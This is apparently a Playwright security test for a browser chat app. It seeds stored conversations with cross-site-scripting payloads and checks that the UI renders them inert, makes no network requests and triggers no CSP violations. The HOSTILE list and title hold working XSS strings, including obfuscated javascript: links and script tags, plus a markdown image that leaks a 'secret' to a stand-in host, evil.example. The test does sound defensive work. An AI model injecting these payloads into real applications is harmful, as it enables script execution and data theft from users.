"""Nothing leaked: a conversation full of hostile text, opened in the real page.

The records go straight into IndexedDB, as a prompt-injected model or a tampered import could
have left them, and are then opened through the UI. Nothing may run (`window.__pwned` stays
undefined), no rendered element may carry a handler, a style or a script URL, no image may load
from a server (the remote one is a link instead), no request may leave the machine (the
network guard) and the page's Content-Security-Policy must refuse nothing (the fixture).
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from .chat_page import ChatPage
from .conftest import READY, NetworkGuard, csp_violations

MODEL_A = "tinylm/tiny-chat-a"
CONVERSATION = "hostile0conversation"
LEAK = "http://evil.example/p.png?leak=secret"

HOSTILE = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'img'\">",
    "<svg onload=\"window.__pwned = 'svg'\"><script>window.__pwned = 'svg script'</script></svg>",
    '<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o">',
    '<style>body { display: none }</style><div style="position:fixed;inset:0">cover</div>',
    "<a href=\"javascript:window.__pwned = 'raw link'\">raw link</a>",
    "[plain](javascript:window.__pwned='plain') [case](JaVaScRiPt:window.__pwned='case')",
    "[tab](jav&#x09;ascript:window.__pwned='tab') [nl](java&#x0A;script:window.__pwned='nl')",
    "[ent](&#106;avascript:window.__pwned='ent') [colon](javascript&colon;window.__pwned=1)",
    "[vb](vbscript:msgbox(1)) [data](data:text/html,<script>window.__pwned='data'</script>)",
    "<javascript:window.__pwned='autolink'> <vbscript:msgbox(1)>",
    "[ref][evil]\n\n[evil]: javascript:window.__pwned='ref'",
    f"![x]({LEAK})",
    "[![inner](http://evil.example/inner.png)](https://example.org/outer)",
    "| left | right |\n|:--|--:|\n| a | b |",
]
HOSTILE_TITLE = "<img src=x onerror=\"window.__pwned = 'title'\"><b>Hostile</b>"


def hostile_records(now: int) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """A conversation record and its messages: every hostile text as a user message and as a
    finished reply, plus a failed reply whose error and model are hostile too."""
    conversation = {
        "id": CONVERSATION,
        "title": HOSTILE_TITLE,
        "model": MODEL_A,
        "createdAt": now,
        "updatedAt": now,
    }
    messages: list[dict[str, Any]] = []
    for text in HOSTILE:
        for role in ("user", "assistant"):
            messages.append(
                {
                    "id": f"m{len(messages):03d}",
                    "conversationId": CONVERSATION,
                    "role": role,
                    "content": text,
                    "createdAt": now + len(messages),
                    "status": "done",
                    "metadata": {"model": MODEL_A} if role == "assistant" else {},
                }
            )
    messages.append(
        {
            "id": f"m{len(messages):03d}",
            "conversationId": CONVERSATION,
            "role": "assistant",
            "content": "<img src=x onerror=\"window.__pwned = 'failed'\">",
            "createdAt": now + len(messages),
            "status": "error",
            "metadata": {"model": "<b onclick=alert(1)>x</b>", "error": HOSTILE[1]},
        }
    )
    return conversation, messages


# Opens the database without a version, so it never races the app's own schema upgrade.
# Everything a rendered message holds that could run, restyle or fetch.
INSPECT = """() => {
  const app = document.querySelector('[data-testid=app]');
  const contents = [...document.querySelectorAll('[data-testid=message-content]')];
  const elements = contents.flatMap((c) => [...c.querySelectorAll('*')]);
  const attrs = elements.flatMap((e) => [...e.attributes].map((a) => [e.tagName, a.name]));
  return {
    pwned: typeof window.__pwned,
    handlers: attrs.filter(([, name]) => name.startsWith('on')),
    styled: attrs.filter(([, name]) => name === 'style'),
    hrefs: [...app.querySelectorAll('[href]')].map((e) => e.getAttribute('href')),
    images: [...app.querySelectorAll('img')].map((e) => e.getAttribute('src')),
    embeds: elements.filter((e) => /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|SVG|FORM|INPUT)$/i
      .test(e.tagName)).map((e) => e.tagName),
  };
}"""


def inspect_inert(page: Page) -> dict[str, Any]:
    """Check that nothing rendered can run, restyle, embed or follow a script link; returns
    what INSPECT found, for a test's own further checks."""
    found: dict[str, Any] = page.evaluate(INSPECT)
    assert found["pwned"] == "undefined"
    assert found["handlers"] == [] and found["styled"] == [] and found["embeds"] == []
    for href in found["hrefs"]:
        lowered = "".join(href.split()).lower()
        assert not lowered.startswith(("javascript:", "vbscript:", "data:")), href
    return found


@pytest.fixture
def tiny_catalog(write_site_file: Callable[[str, Any], str], copy_model: Any) -> str:
    copy_model(MODEL_A, MODEL_A, [])
    catalog = {
        "default": MODEL_A,
        "presets": {},
        "models": [{"id": MODEL_A, "label": "A", "source": "local", "dtype": "q8"}],
    }
    return write_site_file("hostile.json", catalog)


def test_a_hostile_conversation_renders_inert_and_fetches_nothing(
    page: Page, tiny_catalog: str, network_guard: NetworkGuard
) -> None:
    query = f"?device=wasm&catalog={tiny_catalog}"
    chat = ChatPage(page).open(f"{query}#/chat")  # the app has created its schema
    conversation, messages = hostile_records(int(time.time() * 1000))
    chat.seed([conversation], messages)
    page.goto(f"{query}#/chat/{CONVERSATION}")
    response = page.reload()
    page.wait_for_selector(READY)
    # The page runs under the served header (tools/serve.py) as well as its meta tag.
    assert response is not None
    assert "frame-ancestors 'none'" in response.headers.get("content-security-policy", "")
    expect(chat.messages).to_have_count(len(messages))
    expect(page.get_by_test_id("conversation-title")).to_have_text(HOSTILE_TITLE)

    found = inspect_inert(page)
    assert found["images"] == [], "no message here holds an inline image"

    # What the user typed is shown as typed; a reply's remote image is a link to it.
    users = page.locator('[data-testid=message][data-role="user"]')
    expect(users.nth(HOSTILE.index(f"![x]({LEAK})"))).to_contain_text(f"![x]({LEAK})")
    image_link = chat.assistant.get_by_test_id("message-content").locator(f'a[href="{LEAK}"]')
    expect(image_link).to_have_count(1)
    expect(image_link).to_have_text("Image: x (evil.example)")
    expect(image_link).to_have_attribute("rel", "noopener noreferrer nofollow")
    table = chat.assistant.get_by_test_id("message-content").locator("table")
    expect(table.locator("td.align-right")).to_have_text("b")

    assert not [u for u in network_guard.blocked if "evil.example" in u]
    assert csp_violations(page) == []
